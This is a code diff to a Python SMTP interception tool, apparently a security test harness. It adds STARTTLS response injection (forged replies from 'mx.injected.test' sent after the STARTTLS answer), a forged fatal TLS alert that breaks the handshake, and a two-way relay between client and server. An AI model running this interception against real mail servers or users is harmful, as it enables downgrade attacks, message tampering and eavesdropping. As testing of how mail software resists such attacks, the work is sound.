@@ -31,6 +31,13 @@ IP_TRANSPARENT = 19  # <linux/in.h>; Python has no name for it
 _SECONDS = 60.0
 _DNS_SECONDS = 2.0
 _MAX_LINE = 64 * 1024
+_INJECTED = b"250-mx.injected.test\r\n250 ENHANCEDSTATUSCODES\r\n250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n"
+_HANDSHAKE_FAILURE = bytes.fromhex("15 0303 0002 02 28")  # RFC 8446 §6: a fatal alert
+_OF_CERTIFICATE = {
+    Grip.SELF_SIGNED: "that he has signed himself",
+    Grip.OTHER_NAME: "for a name of his own, from a trusted authority",
+    Grip.MISISSUED: "for the receiver's name, from a trusted authority",
+}
 _ENDS_TLS = (Grip.SELF_SIGNED, Grip.OTHER_NAME, Grip.MISISSUED)
 
 
@@ -121,6 +128,27 @@ class Peer:
     def send(self, *lines: bytes) -> None:
         self._link.sendall(b"".join(lines))
 
+    def some(self) -> bytes:
+        """Whatever comes next; empty where the other side has gone."""
+        if self._rest:
+            rest, self._rest = self._rest, b""
+            return rest
+        return self._link.recv(65_536)
+
+    def join(self, other: "Peer") -> None:
+        """Pass everything on, both ways, until one has gone."""
+        back = threading.Thread(target=other._pass_to, args=(self,), daemon=True)
+        back.start()
+        self._pass_to(other)
+        back.join()
+
+    def _pass_to(self, other: "Peer") -> None:
+        with contextlib.suppress(OSError):
+            while data := self.some():
+                other.send(data)
+        with contextlib.suppress(OSError):
+            other._link.shutdown(socket.SHUT_WR)
+
     def serve_tls(self, context: ssl.SSLContext) -> None:
         self._link = context.wrap_socket(self._link, server_side=True)
         self._rest = b""
@@ -151,6 +179,12 @@ class Session:
             verb = line.strip().upper().partition(b" ")[0]
             if verb == b"EHLO":
                 self._greet(line)
+            elif verb == b"STARTTLS" and self._grip is Grip.INJECT:
+                self._inject(line)
+                return
+            elif verb == b"STARTTLS" and self._grip is Grip.BREAK:
+                self._break_off()
+                return
             elif verb == b"STARTTLS":
                 self._starttls()
             elif verb == b"DATA":
@@ -189,7 +223,22 @@ class Session:
         self._client.send(b"220 2.0.0 Ready to start TLS\r\n")
         self._client.serve_tls(context)
         self._is_secret = True
-        self._log.write(self._about, f"ends TLS himself, with a certificate that is {self._grip}")
+        self._log.write(self._about, f"ends TLS himself, with a certificate {_OF_CERTIFICATE[self._grip]}")
+
+    def _inject(self, line: bytes) -> None:
+        """What follows belongs to the two others; he has put in what he could."""
+        answer = self._ask(line)
+        self._client.send(*answer, _INJECTED)
+        self._log.write(
+            self._about, "sends replies of his own behind the answer to STARTTLS, and lets TLS pass"
+        )
+        self._client.join(self._server)
+
+    def _break_off(self) -> None:
+        self._client.send(b"220 2.0.0 Ready to start TLS\r\n")
+        self._client.some()
+        self._client.send(_HANDSHAKE_FAILURE)
+        self._log.write(self._about, "breaks the TLS handshake off")
 
     def _data(self, line: bytes) -> None:
         self._server.send(line)
@@ -255,7 +304,10 @@ class Attacker:
             server = Peer(socket.create_connection((hold.relay_to, 25), timeout=_SECONDS))
             Session(about, hold, client, server, self._log).run()
         except OSError as error:  # ssl.SSLError is one
+            # an end without a word is how Postfix takes leave of a certificate that it does not like
             reason = error.reason if isinstance(error, ssl.SSLError) else error.strerror
+            if isinstance(error, ssl.SSLEOFError):
+                reason = "the other side hangs up"
             self._log.write(about, f"loses the session: {reason or error}")
         finally:
             client.close()
